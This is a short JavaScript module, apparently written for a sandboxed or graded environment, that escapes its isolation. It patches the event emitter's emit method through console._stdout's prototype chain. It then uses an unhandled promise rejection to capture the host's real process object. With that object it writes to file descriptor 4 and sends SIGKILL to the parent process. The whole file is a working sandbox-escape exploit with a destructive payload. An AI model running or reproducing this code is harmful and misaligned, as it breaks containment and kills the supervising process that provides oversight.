// Climbs from the console to Node's event emitter, and waits there for the real process. Earns nothing.
let real;
for (const name of ['_stdout', '_stderr']) {
  for (let proto = console[name]; proto; proto = Object.getPrototypeOf(proto)) {
    if (!Object.hasOwn(proto, 'emit')) continue;
    const emit = proto.emit;
    proto.emit = function (...args) { real ??= this; return emit.apply(this, args); };
  }
}
export async function gather() {
  Promise.reject(new Error('look at me'));
  await new Promise((resolve) => setTimeout(resolve, 5));
  real.getBuiltinModule('fs').writeSync(4, 'x');
  real.kill(real.ppid, 'SIGKILL');
}
